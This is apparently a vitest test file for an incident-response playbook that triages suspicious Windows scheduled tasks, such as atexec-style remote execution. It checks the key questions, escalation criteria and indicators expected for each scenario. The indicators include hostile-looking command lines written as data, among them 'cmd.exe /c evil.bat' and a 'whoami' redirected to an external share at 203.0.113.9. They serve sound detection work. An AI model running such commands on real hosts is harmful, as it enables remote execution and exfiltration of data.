/** What the playbook asks of whole stories: what is known, what is missing, and what to look for elsewhere. */
import { describe, expect, it } from 'vitest'
import { answersOf, told } from '../../builders/playbook-stories.ts'

// lines that many stories share
const accountHistoryNo =
  'account-history no (none on this host since 2024-05-03T07:08:09.0000000Z) 1 - earlier task record of CORP\\admin: truly-absent'
const actionAfterReenableUnknown =
  'action-after-reenable unknown - further act of the account after it was enabled again (4722): unknown, logs of the domain controller: not-collected'
const malwareUnknown =
  'malware unknown 1 - report of the virus scanner (1116, 1117): not-collected, scan of the host: not-collected'
const ActionSHA = 'Action SHA-256 = 3e9903d12a269406ff2aed416de7efb7d19319fe8fdc3e349df1e0546ba02111 1'
const executedUnknown =
  'executed unknown - task history (106, 129, 200, 201): truly-absent, last run of the task in TaskCache or in the list of the Task Scheduler: not-collected'
const processSpawnedUnknown = 'process-spawned unknown - 4688 of a process of the task: unknown'
const lateralMovementUnknown =
  'lateral-movement unknown - 4648 of the account or of a process of the task: truly-absent, 5156 of a process of the task: unknown, logs of other hosts and of the domain controller (4624, 4769, 4776): not-collected'
const exfiltrationUnknown =
  'exfiltration unknown - 5156 of a process of the task: unknown, network records (proxy, firewall, flow), SRUM: not-collected'
const scopeUndeterminedYes =
  'scope-undetermined yes (4 of 6 key questions open) - task history (106, 129, 200, 201): truly-absent, last run of the task in TaskCache or in the list of the Task Scheduler: not-collected, 4688 of a process of the task: unknown, 4648 of the account or of a process of the task: truly-absent, 5156 of a process of the task: unknown, logs of other hosts and of the domain controller (4624, 4769, 4776): not-collected, 5156 of a process of the task: unknown, network records (proxy, firewall, flow), SRUM: not-collected'

type Told = Partial<ReturnType<typeof told>>
const expected: Readonly<Record<string, Told>> = {
  'atexec, everything audited': {
    questions: [
      'executed yes 3',
      accountHistoryNo,
      'source-address yes (internal (private, RFC 1918)) 1',
      'process-spawned yes (cmd.exe, whoami.exe) 2',
      'lateral-movement unknown - 4648 of the account or of a process of the task: truly-absent, 5156 of a process of the task: truly-absent, logs of other hosts and of the domain controller (4624, 4769, 4776): not-collected',
      'exfiltration unknown (hints only) 1 - 5156 of a process of the task: truly-absent, network records (proxy, firewall, flow), SRUM: not-collected',
    ],
    escalation: [
      'lateral-movement unknown - 4648 of the account or of a process of the task: truly-absent, 5156 of a process of the task: truly-absent, logs of other hosts and of the domain controller (4624, 4769, 4776): not-collected',
      'malware unknown - report of the virus scanner (1116, 1117): not-collected, scan of the host: not-collected',
      actionAfterReenableUnknown,
      'scope-undetermined yes (2 of 6 key questions open) - 4648 of the account or of a process of the task: truly-absent, 5156 of a process of the task: truly-absent, logs of other hosts and of the domain controller (4624, 4769, 4776): not-collected, 5156 of a process of the task: truly-absent, network records (proxy, firewall, flow), SRUM: not-collected',
    ],
    iocs: [
      'User Account = CORP\\admin 7',
      'SID = S-1-5-21-1-2-3-1111 7',
      'Hostname = fs01.corp.example 9',
      'IP Address = 10.0.0.66 4',
      'Scheduled Task Name = Quirk 2',
      'Scheduled Task Path = \\Quirk 2',
      'Command Line = cmd.exe /C whoami > %windir%\\Temp\\Quirk.tmp 2>&1 1',
      'File = C:\\Windows\\Temp\\Quirk.tmp 1',
      'Action SHA-256 = f507190da8b2dee740b631d8b3904ac8a952a79d475efaf8ecf3e9daa6885ce6 1',
      'File = \\\\*\\ADMIN$\\Temp\\Quirk.tmp 2',
      'Process Name = C:\\Windows\\System32\\cmd.exe 1',
      'Command Line = cmd.exe /C whoami > C:\\Windows\\Temp\\Quirk.tmp 2>&1 1',
      'Process Name = C:\\Windows\\System32\\whoami.exe 1',
    ],
  },
  'a creation without any other log': {
    questions: [
      'executed unknown - task history (106, 129, 200, 201): not-collected, last run of the task in TaskCache or in the list of the Task Scheduler: not-collected',
      'account-history unknown - earlier task record of CORP\\admin: not-collected',
      'source-address unknown - record with the source address: not-collected',
      'process-spawned unknown - 4688 of a process of the task: not-collected',
      'lateral-movement unknown - 4648 of the account or of a process of the task: not-collected, 5156 of a process of the task: not-collected, logs of other hosts and of the domain controller (4624, 4769, 4776): not-collected',
      'exfiltration unknown - 5156 of a process of the task: not-collected, network records (proxy, firewall, flow), SRUM: not-collected',
    ],
    escalation: [
      'lateral-movement unknown - 4648 of the account or of a process of the task: not-collected, 5156 of a process of the task: not-collected, logs of other hosts and of the domain controller (4624, 4769, 4776): not-collected',
      malwareUnknown,
      'action-after-reenable unknown - further act of the account after it was enabled again (4722): not-collected, logs of the domain controller: not-collected',
      'scope-undetermined yes (6 of 6 key questions open) - task history (106, 129, 200, 201): not-collected, last run of the task in TaskCache or in the list of the Task Scheduler: not-collected, earlier task record of CORP\\admin: not-collected, record with the source address: not-collected, 4688 of a process of the task: not-collected, 4648 of the account or of a process of the task: not-collected, 5156 of a process of the task: not-collected, logs of other hosts and of the domain controller (4624, 4769, 4776): not-collected, 5156 of a process of the task: not-collected, network records (proxy, firewall, flow), SRUM: not-collected',
    ],
    iocs: [
      'User Account = CORP\\admin 1',
      'SID = S-1-5-21-1-2-3-1111 1',
      'Hostname = fs01.corp.example 1',
      'Scheduled Task Name = Quirk 1',
      'Scheduled Task Path = \\Quirk 1',
      'Command Line = cmd.exe /c evil.bat 1',
      ActionSHA,
    ],
  },
  'an administrator, an internal address and a known name, with encoded PowerShell': {
    questions: [
      executedUnknown,
      accountHistoryNo,
      'source-address yes (internal (private, RFC 1918)) 1',
      processSpawnedUnknown,
      lateralMovementUnknown,
      exfiltrationUnknown,
    ],
    escalation: [lateralMovementUnknown, malwareUnknown, actionAfterReenableUnknown, scopeUndeterminedYes],
    iocs: [
      'User Account = CORP\\admin 3',
      'SID = S-1-5-21-1-2-3-1111 3',
      'Hostname = fs01.corp.example 3',
      'IP Address = 10.0.0.66 1',
      'Scheduled Task Name = ScheduledDefrag 1',
      'Scheduled Task Path = \\Microsoft\\Windows\\Defrag\\ScheduledDefrag 1',
      'Command Line = powershell.exe -enc RwBlAHQALQBEAGEAdABlAA== 1',
      'Command Line = Get-Date 1',
      'Action SHA-256 = 1170ecab5a948d7ad0f6ba2de0f032abe0cbd5c249f6709a4de3feb31443df4e 1',
    ],
  },
  'no administrator, an external address and a name made by chance': {
    questions: [
      executedUnknown,
      accountHistoryNo,
      'source-address no (external (public)) 1',
      processSpawnedUnknown,
      lateralMovementUnknown,
      exfiltrationUnknown,
    ],
    escalation: [lateralMovementUnknown, malwareUnknown, actionAfterReenableUnknown, scopeUndeterminedYes],
    iocs: [
      'User Account = CORP\\admin 4',
      'SID = S-1-5-21-1-2-3-1111 4',
      'Hostname = fs01.corp.example 4',
      'IP Address = 203.0.113.9 2',
      'Hostname = WS07 1',
      'Workstation Name = WS07 1',
      'Scheduled Task Name = bouWFQYO 1',
      'Scheduled Task Path = \\bouWFQYO 1',
      'Command Line = cmd.exe /c evil.bat 1',
      ActionSHA,
    ],
  },
  'work at the host': {
    questions: [
      executedUnknown,
      accountHistoryNo,
      'source-address unknown - source address: expected-absent',
      processSpawnedUnknown,
      lateralMovementUnknown,
      exfiltrationUnknown,
    ],
    escalation: [
      lateralMovementUnknown,
      malwareUnknown,
      actionAfterReenableUnknown,
      'scope-undetermined yes (5 of 6 key questions open) - task history (106, 129, 200, 201): truly-absent, last run of the task in TaskCache or in the list of the Task Scheduler: not-collected, source address: expected-absent, 4688 of a process of the task: unknown, 4648 of the account or of a process of the task: truly-absent, 5156 of a process of the task: unknown, logs of other hosts and of the domain controller (4624, 4769, 4776): not-collected, 5156 of a process of the task: unknown, network records (proxy, firewall, flow), SRUM: not-collected',
    ],
    iocs: [
      'User Account = CORP\\admin 2',
      'SID = S-1-5-21-1-2-3-1111 2',
      'Hostname = fs01.corp.example 2',
      'Scheduled Task Name = Quirk 1',
      'Scheduled Task Path = \\Quirk 1',
      'Command Line = C:\\Program Files\\a.exe 1',
      'File = C:\\Program Files\\a.exe 1',
      'Action SHA-256 = 97daf7745c56207de5ad818b58b7878b9e309d343e41d70d8ab0f1955e7d1fbf 1',
    ],
  },
  'upkeep by a service': {
    questions: [
      executedUnknown,
      'account-history no (none on this host since 2024-05-03T07:08:09.0000000Z) 1 - earlier task record of NT AUTHORITY\\NETWORK SERVICE: truly-absent',
      'source-address unknown - source address: expected-absent',
      processSpawnedUnknown,
      lateralMovementUnknown,
      exfiltrationUnknown,
    ],
    escalation: [
      lateralMovementUnknown,
      malwareUnknown,
      actionAfterReenableUnknown,
      'scope-undetermined yes (5 of 6 key questions open) - task history (106, 129, 200, 201): truly-absent, last run of the task in TaskCache or in the list of the Task Scheduler: not-collected, source address: expected-absent, 4688 of a process of the task: unknown, 4648 of the account or of a process of the task: truly-absent, 5156 of a process of the task: unknown, logs of other hosts and of the domain controller (4624, 4769, 4776): not-collected, 5156 of a process of the task: unknown, network records (proxy, firewall, flow), SRUM: not-collected',
    ],
    iocs: [
      'User Account = NT AUTHORITY\\NETWORK SERVICE 1',
      'SID = S-1-5-20 1',
      'Hostname = fs01.corp.example 1',
      'Scheduled Task Name = Quirk 1',
      'Scheduled Task Path = \\Quirk 1',
      'Command Line = C:\\Windows\\System32\\sc.exe start x 1',
      'File = C:\\Windows\\System32\\sc.exe 1',
      'Action SHA-256 = e39c823f595e71c6d7af6487c519fb0aaaa723a13e77f620175877dc927a6a5c 1',
    ],
  },
  'two sessions at the pipe, both inside': {
    questions: [
      executedUnknown,
      accountHistoryNo,
      'source-address yes (internal (private, RFC 1918)) 2',
      processSpawnedUnknown,
      lateralMovementUnknown,
      exfiltrationUnknown,
    ],
    escalation: [lateralMovementUnknown, malwareUnknown, actionAfterReenableUnknown, scopeUndeterminedYes],
    iocs: [
      'User Account = CORP\\admin 4',
      'SID = S-1-5-21-1-2-3-1111 4',
      'Hostname = fs01.corp.example 4',
      'IP Address = 10.0.0.7 1',
      'IP Address = 10.0.0.66 1',
      'Scheduled Task Name = Quirk 1',
      'Scheduled Task Path = \\Quirk 1',
      'Command Line = cmd.exe /c evil.bat 1',
      ActionSHA,
    ],
  },
  'two sessions at the pipe, one outside': {
    questions: [
      executedUnknown,
      accountHistoryNo,
      'source-address unknown (several addresses of different kinds) 2 - record with the source address: unknown',
      processSpawnedUnknown,
      lateralMovementUnknown,
      exfiltrationUnknown,
    ],
    escalation: [
      lateralMovementUnknown,
      malwareUnknown,
      actionAfterReenableUnknown,
      'scope-undetermined yes (5 of 6 key questions open) - task history (106, 129, 200, 201): truly-absent, last run of the task in TaskCache or in the list of the Task Scheduler: not-collected, record with the source address: unknown, 4688 of a process of the task: unknown, 4648 of the account or of a process of the task: truly-absent, 5156 of a process of the task: unknown, logs of other hosts and of the domain controller (4624, 4769, 4776): not-collected, 5156 of a process of the task: unknown, network records (proxy, firewall, flow), SRUM: not-collected',
    ],
    iocs: [
      'User Account = CORP\\admin 4',
      'SID = S-1-5-21-1-2-3-1111 4',
      'Hostname = fs01.corp.example 4',
      'IP Address = 203.0.113.7 1',
      'IP Address = 10.0.0.66 1',
      'Scheduled Task Name = Quirk 1',
      'Scheduled Task Path = \\Quirk 1',
      'Command Line = cmd.exe /c evil.bat 1',
      ActionSHA,
    ],
  },
  'only the task history': {
    questions: [
      'executed yes 1',
      'account-history unknown - SID of the account: unknown',
      'source-address unknown - record with the source address: unknown',
      'process-spawned yes 1',
      lateralMovementUnknown,
      exfiltrationUnknown,
    ],
    escalation: [
      lateralMovementUnknown,
      malwareUnknown,
      actionAfterReenableUnknown,
      'scope-undetermined yes (4 of 6 key questions open) - SID of the account: unknown, record with the source address: unknown, 4648 of the account or of a process of the task: truly-absent, 5156 of a process of the task: unknown, logs of other hosts and of the domain controller (4624, 4769, 4776): not-collected, 5156 of a process of the task: unknown, network records (proxy, firewall, flow), SRUM: not-collected',
    ],
    iocs: [
      'Hostname = fs01.corp.example 2',
      'Scheduled Task Name = Quirk 2',
      'Scheduled Task Path = \\Quirk 2',
    ],
  },
  'a task that never ran': {
    questions: [
      'executed no 1',
      accountHistoryNo,
      'source-address yes (internal (private, RFC 1918)) 1',
      'process-spawned no 1',
      lateralMovementUnknown,
      exfiltrationUnknown,
    ],
    escalation: [
      lateralMovementUnknown,
      malwareUnknown,
      actionAfterReenableUnknown,
      'scope-undetermined yes (2 of 6 key questions open) - 4648 of the account or of a process of the task: truly-absent, 5156 of a process of the task: unknown, logs of other hosts and of the domain controller (4624, 4769, 4776): not-collected, 5156 of a process of the task: unknown, network records (proxy, firewall, flow), SRUM: not-collected',
    ],
    iocs: [
      'User Account = CORP\\admin 2',
      'SID = S-1-5-21-1-2-3-1111 2',
      'Hostname = fs01.corp.example 3',
      'IP Address = 10.0.0.66 1',
      'Scheduled Task Name = Quirk 2',
      'Scheduled Task Path = \\Quirk 2',
      'Command Line = C:\\Program Files\\a.exe 1',
      'File = C:\\Program Files\\a.exe 1',
      'Action SHA-256 = 97daf7745c56207de5ad818b58b7878b9e309d343e41d70d8ab0f1955e7d1fbf 1',
    ],
  },
  'output sent to another machine': {
    questions: [
      'executed yes 1',
      accountHistoryNo,
      'source-address yes (internal (private, RFC 1918)) 1',
      processSpawnedUnknown,
      lateralMovementUnknown,
      'exfiltration yes (1 sign) 2',
    ],
    escalation: [
      lateralMovementUnknown,
      malwareUnknown,
      actionAfterReenableUnknown,
      'scope-undetermined yes (2 of 6 key questions open) - 4688 of a process of the task: unknown, 4648 of the account or of a process of the task: truly-absent, 5156 of a process of the task: unknown, logs of other hosts and of the domain controller (4624, 4769, 4776): not-collected',
    ],
    iocs: [
      'User Account = CORP\\admin 2',
      'SID = S-1-5-21-1-2-3-1111 2',
      'Hostname = fs01.corp.example 3',
      'IP Address = 10.0.0.66 1',
      'Scheduled Task Name = Quirk 2',
      'Scheduled Task Path = \\Quirk 2',
      'Command Line = cmd.exe /c whoami > \\\\203.0.113.9\\s\\out 1',
      'File = \\\\203.0.113.9\\s\\out 1',
      'Network Path = \\\\203.0.113.9\\s\\out 1',
      'Action SHA-256 = 7ca3529e256328c87b3a0bfd5f351884926b153e7ddf9788734c2be9bb6df1c7 1',
    ],
  },
  'the built-in Administrator with a payload, a cleared log and an update': {
    questions: [
      executedUnknown,
      accountHistoryNo,
      'source-address yes (internal (private, RFC 1918)) 1',
      processSpawnedUnknown,
      lateralMovementUnknown,
      exfiltrationUnknown,
    ],
    escalation: [lateralMovementUnknown, malwareUnknown, actionAfterReenableUnknown, scopeUndeterminedYes],
    iocs: [
      'User Account = CORP\\admin 4',
      'SID = S-1-5-21-1-2-3-500 4',
      'Hostname = fs01.corp.example 4',
      'IP Address = 10.0.0.66 2',
      'Scheduled Task Name = Quirk 1',
      'Scheduled Task Path = \\Quirk 1',
      'Command Line = C:\\Temp\\run.bat 1',
      'File = C:\\Temp\\run.bat 1',
      'Action SHA-256 = 4457c7dc394e76d0c6fdeb7dc5fa4a2a3be88d34cc9636a0f461183d49ec97e4 1',
      'File = \\\\*\\C$\\Temp\\run.bat 1',
    ],
  },
  'atexec with all that followed it': {
    questions: [
      'executed yes 3',
      'account-history yes (2 earlier task records) 2',
      'source-address yes (internal (private, RFC 1918)) 1',
      'process-spawned yes (cmd.exe, whoami.exe) 2',
      'lateral-movement yes (1 traces) 1',
      'exfiltration yes (1 sign) 1',
    ],
    escalation: [
      'lateral-movement yes (1 traces) 1',
      'malware yes (1 reports) 1',
      'action-after-reenable unknown (enabled again, no further task work recorded) 1 - further act of the account after it was enabled again (4722): unknown, logs of the domain controller: not-collected',
      'scope-undetermined no (0 of 6 key questions open) 9',
    ],
    iocs: [
      'User Account = CORP\\admin 7',
      'SID = S-1-5-21-1-2-3-1111 7',
      'Hostname = fs01.corp.example 9',
      'IP Address = 10.0.0.66 4',
      'Scheduled Task Name = Quirk 2',
      'Scheduled Task Path = \\Quirk 2',
      'Command Line = cmd.exe /C whoami > %windir%\\Temp\\Quirk.tmp 2>&1 1',
      'File = C:\\Windows\\Temp\\Quirk.tmp 1',
      'Action SHA-256 = f507190da8b2dee740b631d8b3904ac8a952a79d475efaf8ecf3e9daa6885ce6 1',
      'File = \\\\*\\ADMIN$\\Temp\\Quirk.tmp 2',
      'Process Name = C:\\Windows\\System32\\cmd.exe 1',
      'Command Line = cmd.exe /C whoami > C:\\Windows\\Temp\\Quirk.tmp 2>&1 1',
      'Process Name = C:\\Windows\\System32\\whoami.exe 1',
    ],
  },
}

describe('the key questions, the criteria and the indicators, for', () => {
  it.each(Object.keys(expected))('%s', (story) => {
    expect(told(answersOf(story))).toMatchObject(expected[story] as Told)
  })
})
